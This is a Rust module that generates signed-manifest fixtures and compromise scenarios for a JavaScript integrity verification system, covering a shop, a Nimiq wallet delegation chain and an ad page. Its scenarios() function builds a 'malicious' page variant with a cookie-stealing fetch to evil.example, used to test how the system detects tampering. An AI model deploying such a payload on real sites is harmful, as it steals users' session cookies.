//! The shipped case studies: Hello World, a pinned third-party library, a
//! shop delegating to a wallet that embeds a hub and a key guard, and an ad
//! page that blindly trusts ad scripts next to the delegated wallet.
//!
//! Everything is derived from fixed seeds, so [`CaseStudies::build`] always
//! produces the same bytes and the `fixtures/` directory can be checked
//! against it.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use accjs_core::crypto::{keygen, sign_envelope, CertRecord, Principal, Registry, Role};
use accjs_core::manifest::{parse_manifest, serialize_manifest_pretty, Manifest};
use accjs_core::measure::{ResourceFetcher, Response};
use accjs_core::sim::{developer_compromise_fixture, Corruption, Scenario, SiteSpec, Step, Variant};
use accjs_core::sri::{compute_sri, HashAlgorithm};
use accjs_core::time::{Timestamp, DAY};
use accjs_core::url::CnMatch;
use rand_chacha::ChaCha20Rng;
use rand_core::SeedableRng;
use serde_json::{json, Value};

use crate::fixtures::INDEX_FILE;
use crate::keystore::KeyStore;
use crate::Error;

/// 2026-01-01T00:00:00Z, the signing date of every shipped envelope.
pub const FIXTURE_TIME: Timestamp = Timestamp(1_767_225_600);
pub const FIXTURE_ENVELOPE_TTL: u64 = 5 * 365 * DAY;

pub const HELLO_URL: &str = "http://www.helloworld.com/";
pub const THIRD_PARTY_URL: &str = "http://www.helloworld.com/third-party.html";
pub const SHOP_URL: &str = "https://www.example-shop.com/";
pub const WALLET_URL: &str = "https://wallet.nimiq.com/";
pub const HUB_URL: &str = "https://hub.nimiq.com/iframe.html";
pub const KEYGUARD_URL: &str = "https://keyguard.nimiq.com/";
pub const ADS_URL: &str = "https://www.helloworld.com/";
pub const JQUERY_URL: &str = "https://ajax.googleapis.com/ajax/libs/jquery/3.6.1/jquery.min.js";

pub const HELLO_HTML: &str = r#"<html><head>
  <meta charset="utf-8" name="x-acc-js-link" content="http://www.helloworld.com/manifest.sxg">
</head><body>
  <script>console.log("Hello World")</script>
</body></html>
"#;

/// The first party's manifest for each signed page, and the URL its
/// envelope is served from.
struct SignedPage {
    developer: &'static str,
    envelope_url: String,
    envelope_file: String,
    manifest_file: String,
}

#[derive(Debug, Clone)]
struct Resource {
    file: String,
    body: Vec<u8>,
    headers: Vec<(String, String)>,
}

/// In-memory web backing the case studies.
#[derive(Debug, Clone, Default)]
pub struct MemSite {
    resources: BTreeMap<String, Response>,
}

impl MemSite {
    pub fn insert(&mut self, url: &str, resp: Response) {
        self.resources.insert(url.to_string(), resp);
    }

    pub fn urls(&self) -> impl Iterator<Item = &str> {
        self.resources.keys().map(String::as_str)
    }

    pub fn get(&self, url: &str) -> Option<&Response> {
        self.resources.get(url)
    }
}

impl ResourceFetcher for MemSite {
    fn fetch(&self, url: &str) -> Option<Response> {
        self.resources.get(url).or_else(|| self.resources.get(accjs_core::url::strip_query(url))).cloned()
    }
}

pub struct CaseStudies {
    resources: BTreeMap<String, Resource>,
    signed: BTreeMap<String, SignedPage>,
    /// Manifest per signed page URL.
    pub manifests: BTreeMap<String, Manifest>,
    /// Developer keys by principal id.
    pub developers: BTreeMap<String, (Principal, CertRecord)>,
    pub log: (Principal, CertRecord),
    pub scenarios: BTreeMap<String, Scenario>,
}

fn sri(body: &[u8], alg: HashAlgorithm) -> String {
    compute_sri(body, alg).to_string()
}

fn sha256(body: &[u8]) -> String {
    sri(body, HashAlgorithm::Sha256)
}

fn script_body(url: &str) -> Vec<u8> {
    format!("/* stand-in for {url} */\n(function () {{ self.loaded = (self.loaded || []).concat({url:?}); }})();\n")
        .into_bytes()
}

fn script_tag(url: &str, extra: &str) -> String {
    let integrity = sha256(&script_body(url));
    format!("  <script src=\"{url}\" integrity=\"{integrity}\"{extra}></script>\n")
}

fn external_block(seq: u64, url: &str, load: &str) -> Value {
    json!({"seq": seq, "type": "external", "src": url, "hash": sha256(&script_body(url)), "load": load,
           "dynamic": false, "trust": "assert"})
}

fn inline_block(seq: u64, code: &str) -> Value {
    json!({"seq": seq, "type": "inline", "load": "sync", "trust": "assert", "hash": sha256(code.as_bytes())})
}

fn manifest(v: Value) -> Manifest {
    parse_manifest(&v.to_string()).expect("case-study manifests are valid")
}

const SHOP_CART: &str = "\n  var cart = [{'sku': 'A-1', 'qty': 1}];\n ";
const SHOP_PAY: &str = "\n  function addTransaction () { \n    window.postMessage({'id': '123', 'amount': '10n', 'from':'abc'}, 'https://wallet.nimiq.com/');}\n ";
const JQUERY_INLINE: &str = r#"$("body").html("Hello World")"#;

fn wallet_scripts() -> Vec<String> {
    ["vendor", "common", "i18n", "network", "wallet"].iter().map(|n| format!("{WALLET_URL}js/{n}.js")).collect()
}

fn hub_scripts() -> Vec<String> {
    ["polyfills", "vendor", "rpc", "storage", "accounts", "requests", "hub"]
        .iter()
        .map(|n| format!("https://hub.nimiq.com/js/{n}.js"))
        .collect()
}

fn keyguard_scripts() -> Vec<(String, &'static str)> {
    vec![
        (format!("{KEYGUARD_URL}lib/web-offline.js"), "defer"),
        (format!("{KEYGUARD_URL}lib/nimiq-utils.js"), "defer"),
        (format!("{KEYGUARD_URL}request/sign-transaction.js"), "defer"),
    ]
}

fn ad_scripts() -> Vec<String> {
    (0..6).map(|i| format!("https://pagead2.googlesyndication.com/pagead/js/r{i}/show_ads_impl.js")).collect()
}

fn ad_frames() -> Vec<String> {
    (0..6).map(|i| format!("https://googleads.g.doubleclick.net/pagead/ads?slot={i}")).collect()
}

impl CaseStudies {
    pub fn build() -> Self {
        let mut rng = ChaCha20Rng::seed_from_u64(0x000a_cc15);
        let mut dev = |id: &str, cn: &str| {
            let pair = keygen(id, Role::Developer, cn, 90 * DAY, FIXTURE_TIME, &mut rng).expect("valid developer cert");
            (id.to_string(), pair)
        };
        let developers: BTreeMap<_, _> = [
            dev("helloworld-dev", "helloworld.com"),
            dev("shop-dev", "example-shop.com"),
            dev("wallet-dev", "wallet.nimiq.com"),
            dev("keyguard-dev", "keyguard.nimiq.com"),
        ]
        .into_iter()
        .collect();
        let log = keygen("log", Role::Log, "log.accjs.example", 5 * 365 * DAY, FIXTURE_TIME, &mut rng).expect("log cert");

        let mut cs = CaseStudies {
            resources: BTreeMap::new(),
            signed: BTreeMap::new(),
            manifests: BTreeMap::new(),
            developers,
            log,
            scenarios: BTreeMap::new(),
        };
        cs.hello();
        cs.third_party();
        cs.nimiq();
        cs.adsense();
        cs.scenarios();
        cs
    }

    fn add(&mut self, url: &str, file: &str, body: impl Into<Vec<u8>>) {
        self.resources.insert(url.into(), Resource { file: file.into(), body: body.into(), headers: Vec::new() });
    }

    fn add_script(&mut self, url: &str, dir: &str) {
        let name = url.rsplit('/').next().unwrap_or("script.js");
        self.add(url, &format!("{dir}/{name}"), script_body(url));
    }

    /// Registers the signed manifest for `page`. With `link_header` the page
    /// response points at the envelope; otherwise the page links it itself.
    fn sign_page(&mut self, page: &str, developer: &'static str, dir: &str, envelope_url: &str, m: Manifest, link_header: bool) {
        let stem = envelope_url.rsplit('/').next().unwrap_or("manifest").split('.').next().unwrap_or("manifest").to_string();
        self.signed.insert(
            page.into(),
            SignedPage {
                developer,
                envelope_url: envelope_url.into(),
                envelope_file: format!("{dir}/{stem}.sxg.json"),
                manifest_file: format!("{dir}/{stem}.manifest.json"),
            },
        );
        if link_header {
            let r = self.resources.get_mut(page).expect("page registered before signing");
            r.headers.push(("x-acc-js-link".into(), envelope_url.into()));
        }
        self.manifests.insert(page.into(), m);
    }

    fn hello(&mut self) {
        self.add(HELLO_URL, "hello/index.html", HELLO_HTML);
        let m = manifest(json!({"url": HELLO_URL, "manifest_version": "v0",
            "contents": [inline_block(0, r#"console.log("Hello World")"#)]}));
        self.sign_page(HELLO_URL, "helloworld-dev", "hello", "http://www.helloworld.com/manifest.sxg", m, false);
    }

    fn third_party(&mut self) {
        let lib = b"/* jQuery-style stand-in v3.6.1 */\nwindow.$ = function (sel) { return { html: function (s) { document.querySelector(sel).textContent = s; } }; };\n";
        self.add(JQUERY_URL, "third-party/jquery.min.js", lib.to_vec());
        let integrity = sri(lib, HashAlgorithm::Sha384);
        let html = format!(
            "<html><head>\n  <script src=\"{JQUERY_URL}\" integrity=\"{integrity}\" crossorigin=\"anonymous\"></script></head><body>\n  <script>{JQUERY_INLINE}</script>\n</body></html>\n"
        );
        self.add(THIRD_PARTY_URL, "third-party/index.html", html);
        let m = manifest(json!({"url": THIRD_PARTY_URL, "manifest_version": "v0", "contents": [
            {"seq": 0, "type": "external", "src": JQUERY_URL, "hash": integrity, "crossorigin": "anonymous",
             "load": "sync", "trust": "assert"},
            inline_block(1, JQUERY_INLINE)]}));
        self.sign_page(THIRD_PARTY_URL, "helloworld-dev", "third-party", "http://www.helloworld.com/third-party.sxg.json", m, true);
    }

    fn nimiq(&mut self) {
        // Key guard: three deferred scripts of its own.
        let mut html = String::from("<html><head>\n");
        for (url, _) in keyguard_scripts() {
            html.push_str(&script_tag(&url, " defer"));
            self.add_script(&url, "nimiq/keyguard");
        }
        html.push_str("</head><body></body></html>\n");
        self.add(KEYGUARD_URL, "nimiq/keyguard/index.html", html);
        let keyguard_blocks: Vec<Value> =
            keyguard_scripts().iter().enumerate().map(|(i, (u, load))| external_block(i as u64, u, load)).collect();
        let m = manifest(json!({"url": KEYGUARD_URL, "manifest_version": "v0", "contents": keyguard_blocks}));
        self.sign_page(KEYGUARD_URL, "keyguard-dev", "nimiq/keyguard", &format!("{KEYGUARD_URL}manifest.sxg.json"), m, true);

        // Hub: seven scripts and the key guard frame.
        let mut html = String::from("<html><head>\n");
        for url in hub_scripts() {
            html.push_str(&script_tag(&url, ""));
            self.add_script(&url, "nimiq/hub");
        }
        html.push_str(&format!("</head><body>\n  <iframe src=\"{KEYGUARD_URL}\" sandbox=\"\"></iframe>\n</body></html>\n"));
        self.add(HUB_URL, "nimiq/hub/iframe.html", html);

        // Wallet: five scripts and the hub frame, whose document and the key
        // guard inside it are pinned by nested blocks.
        let mut html = String::from("<html><head>\n");
        for url in wallet_scripts() {
            html.push_str(&script_tag(&url, ""));
            self.add_script(&url, "nimiq/wallet");
        }
        html.push_str(&format!("</head><body>\n  <iframe src=\"{HUB_URL}\" sandbox=\"\"></iframe>\n</body></html>\n"));
        self.add(WALLET_URL, "nimiq/wallet/index.html", html);
        let mut hub_blocks: Vec<Value> =
            hub_scripts().iter().enumerate().map(|(i, u)| external_block(i as u64, u, "sync")).collect();
        hub_blocks.push(json!({"seq": 7, "type": "iframe", "src_type": "link", "src": KEYGUARD_URL, "sandbox": "",
            "dynamic": false, "trust": "assert", "manifest": keyguard_blocks}));
        let mut wallet_blocks: Vec<Value> =
            wallet_scripts().iter().enumerate().map(|(i, u)| external_block(i as u64, u, "sync")).collect();
        wallet_blocks.push(json!({"seq": 5, "type": "iframe", "src_type": "link", "src": HUB_URL, "sandbox": "",
            "dynamic": false, "trust": "assert", "manifest": hub_blocks}));
        let m = manifest(json!({"url": WALLET_URL, "manifest_version": "v0", "contents": wallet_blocks}));
        self.sign_page(WALLET_URL, "wallet-dev", "nimiq/wallet", &format!("{WALLET_URL}manifest.sxg.json"), m, true);

        // Shop: its own two scripts, then the delegated wallet.
        let html = format!(
            "<html><body>\n <script type=\"text/javascript\">{SHOP_CART}</script>\n <script type=\"text/javascript\">{SHOP_PAY}</script>\n <iframe src=\"{WALLET_URL}\" sandbox=\"allow-scripts\" onload=\"addTransaction()\"></iframe>\n</body></html>\n"
        );
        self.add(SHOP_URL, "nimiq/shop/index.html", html);
        let m = manifest(json!({"url": SHOP_URL, "manifest_version": "v2", "contents": [
            inline_block(0, SHOP_CART),
            inline_block(1, SHOP_PAY),
            {"seq": 2, "type": "iframe", "src_type": "link", "src": WALLET_URL, "sandbox": "allow-scripts",
             "dynamic": false, "trust": "delegate"},
            {"seq": 3, "type": "event_handler", "trust": "assert", "hash": sha256(b"addTransaction()")}]}));
        self.sign_page(SHOP_URL, "shop-dev", "nimiq/shop", &format!("{SHOP_URL}manifest.sxg.json"), m, true);
    }

    fn adsense(&mut self) {
        let mut html = String::from("<html><head>\n");
        for url in ad_scripts() {
            html.push_str(&format!("  <script async src=\"{url}\" crossorigin=\"anonymous\"></script>\n"));
        }
        html.push_str("</head><body>\n");
        html.push_str(&format!("  <iframe src=\"{WALLET_URL}\" sandbox=\"allow-same-origin allow-scripts\"></iframe>\n"));
        for url in ad_frames() {
            html.push_str(&format!("  <iframe src=\"{url}\"></iframe>\n"));
        }
        html.push_str("</body></html>\n");
        self.add(ADS_URL, "adsense/index.html", html);
        let mut blocks: Vec<Value> = ad_scripts()
            .iter()
            .enumerate()
            .map(|(i, u)| json!({"seq": i, "type": "external", "src": u, "crossorigin": "anonymous", "load": "async",
                                  "dynamic": false, "trust": "blind-trust"}))
            .collect();
        blocks.push(json!({"seq": 6, "type": "iframe", "src_type": "link", "src": WALLET_URL,
            "sandbox": "allow-same-origin allow-scripts", "dynamic": false, "trust": "delegate"}));
        for (i, u) in ad_frames().iter().enumerate() {
            blocks.push(json!({"seq": 7 + i, "type": "iframe", "src_type": "link", "src": u, "dynamic": false,
                               "trust": "blind-trust"}));
        }
        let m = manifest(json!({"url": ADS_URL, "manifest_version": "v3", "contents": blocks}));
        self.sign_page(ADS_URL, "helloworld-dev", "adsense", "https://www.helloworld.com/manifest.sxg.json", m, true);
    }

    fn scenarios(&mut self) {
        let benign = HELLO_HTML.to_string();
        let malicious = HELLO_HTML.replace(
            r#"console.log("Hello World")"#,
            r#"fetch("https://evil.example/c?k=" + document.cookie)"#,
        );
        let site = SiteSpec {
            url: HELLO_URL.into(),
            common_name: "helloworld.com".into(),
            developer: "D".into(),
            server: "W".into(),
            benign: benign.clone(),
            malicious: malicious.clone(),
        };
        self.scenarios.insert("developer-compromise".into(), developer_compromise_fixture(site));

        let mut mixed = Scenario::single_site(HELLO_URL, "helloworld.com", &benign, &malicious);
        mixed.name = "mixed-corruptions".into();
        mixed.seed = 7;
        mixed.clients.push("C2".into());
        mixed.corruptions = vec![
            Corruption { principal: "W".into(), at_step: 40 },
            Corruption { principal: "C2".into(), at_step: 60 },
            Corruption { principal: "D".into(), at_step: 90 },
        ];
        self.scenarios.insert("mixed-corruptions".into(), mixed);

        let mut cv = Scenario::single_site(HELLO_URL, "helloworld.com", &benign, &malicious);
        cv.name = "code-verify-broker".into();
        cv.variant = Variant::CodeVerify;
        cv.steps = Some(vec![
            Step::Publish { url: HELLO_URL.into() },
            Step::Flush,
            Step::Corrupt { principal: "B".into() },
            Step::BrokerPublishMalicious { url: HELLO_URL.into() },
            Step::Deliver { client: "C".into(), url: HELLO_URL.into() },
            Step::DeliverNext,
            Step::TamperResponses { url: HELLO_URL.into() },
            Step::Flush,
        ]);
        self.scenarios.insert("code-verify-broker".into(), cv);
    }

    pub fn registry(&self) -> Registry {
        let mut r = Registry::new();
        for (_, cert) in self.developers.values() {
            r.insert(cert.clone());
        }
        r.insert(self.log.1.clone());
        r
    }

    /// Signs the current manifest of every signed page.
    pub fn site(&self) -> MemSite {
        self.site_with(&[])
    }

    /// Like [`CaseStudies::site`], serving `overrides` instead of the shipped
    /// manifests for the pages they name.
    pub fn site_with(&self, overrides: &[(&str, &Manifest)]) -> MemSite {
        let mut site = MemSite::default();
        for (url, r) in &self.resources {
            site.insert(url, Response { headers: r.headers.clone(), body: r.body.clone() });
        }
        for (page, sp) in &self.signed {
            let m = overrides.iter().find(|(p, _)| p == page).map_or(&self.manifests[page], |(_, m)| *m);
            let env = self.envelope(page, m);
            site.insert(&sp.envelope_url, Response { headers: Vec::new(), body: env.to_json().into_bytes() });
        }
        site
    }

    /// Pages that have a signed manifest.
    pub fn signed_pages(&self) -> impl Iterator<Item = &str> {
        self.signed.keys().map(String::as_str)
    }

    /// Envelope for `m` signed by the developer of `page`.
    pub fn envelope(&self, page: &str, m: &Manifest) -> accjs_core::crypto::SignedEnvelope {
        let (p, cert) = &self.developers[self.signed[page].developer];
        sign_envelope(p, cert, m, FIXTURE_TIME, FIXTURE_ENVELOPE_TTL, CnMatch::Exact).expect("case-study signing")
    }

    /// Page HTML as shipped.
    pub fn html(&self, url: &str) -> &[u8] {
        &self.resources[url].body
    }

    pub fn envelope_url(&self, page: &str) -> &str {
        &self.signed[page].envelope_url
    }

    /// Writes `sites/`, `keys/` and `scenarios/` under `dir`.
    pub fn write(&self, dir: &Path) -> Result<(), Error> {
        let sites = dir.join("sites");
        let mut index = serde_json::Map::new();
        let site = self.site();
        let write = |rel: &str, bytes: &[u8]| -> Result<(), Error> {
            let path = sites.join(rel);
            if let Some(parent) = path.parent() {
                fs::create_dir_all(parent).map_err(|e| Error::io(parent, e))?;
            }
            fs::write(&path, bytes).map_err(|e| Error::io(&path, e))
        };
        for (url, r) in &self.resources {
            write(&r.file, &r.body)?;
            if r.headers.is_empty() {
                index.insert(url.clone(), json!(r.file));
            } else {
                let headers: serde_json::Map<String, Value> = r.headers.iter().map(|(k, v)| (k.clone(), json!(v))).collect();
                index.insert(url.clone(), json!({"body": r.file, "headers": headers}));
            }
        }
        for (page, sp) in &self.signed {
            write(&sp.envelope_file, &site.get(&sp.envelope_url).expect("signed").body)?;
            let mut text = serialize_manifest_pretty(&self.manifests[page]);
            text.push('\n');
            write(&sp.manifest_file, text.as_bytes())?;
            index.insert(sp.envelope_url.clone(), json!(sp.envelope_file));
        }
        let mut text = serde_json::to_string_pretty(&Value::Object(index)).expect("index serializes");
        text.push('\n');
        write(INDEX_FILE, text.as_bytes())?;

        let keys = KeyStore::open(dir.join("keys"))?;
        for (p, cert) in self.developers.values().chain([&self.log]) {
            keys.insert(p, cert)?;
        }

        let scen = dir.join("scenarios");
        fs::create_dir_all(&scen).map_err(|e| Error::io(&scen, e))?;
        for (name, s) in &self.scenarios {
            let path = scen.join(format!("{name}.json"));
            fs::write(&path, s.to_json() + "\n").map_err(|e| Error::io(&path, e))?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::html::Html5everParser;
    use accjs_core::compliance::{evaluate, generate_manifest, EvalContext};
    use accjs_core::measure::Measurer;

    fn check(cs: &CaseStudies, url: &str) -> accjs_core::ComplianceVerdict {
        let site = cs.site();
        let reg = cs.registry();
        let report = Measurer::new(&Html5everParser, Some(&site)).measure(cs.html(url), url, &[]).unwrap();
        let mut ctx = EvalContext::new(&site, &reg, FIXTURE_TIME.plus(DAY));
        ctx.parser = Some(&Html5everParser);
        evaluate(&report, &cs.manifests[url], &ctx).unwrap()
    }

    #[test]
    fn every_signed_page_complies() {
        let cs = CaseStudies::build();
        for url in cs.manifests.keys() {
            let v = check(&cs, url);
            assert!(v.ok && v.warnings.is_empty(), "{url}: {v:?}");
        }
        assert_eq!(check(&cs, SHOP_URL).delegation_chain.len(), 2);
        assert_eq!(check(&cs, ADS_URL).delegation_chain.len(), 2);
    }

    #[test]
    fn hello_manifest_is_what_generation_gives() {
        let cs = CaseStudies::build();
        let report = Measurer::new(&Html5everParser, None).measure(HELLO_HTML.as_bytes(), HELLO_URL, &[]).unwrap();
        assert_eq!(generate_manifest(&report), cs.manifests[HELLO_URL]);
    }

    #[test]
    fn build_is_deterministic() {
        let a = tempfile::tempdir().unwrap();
        let b = tempfile::tempdir().unwrap();
        CaseStudies::build().write(a.path()).unwrap();
        CaseStudies::build().write(b.path()).unwrap();
        let read = |p: &Path| fs::read(p.join("sites/nimiq/wallet/manifest.sxg.json")).unwrap();
        assert_eq!(read(a.path()), read(b.path()));
    }
}
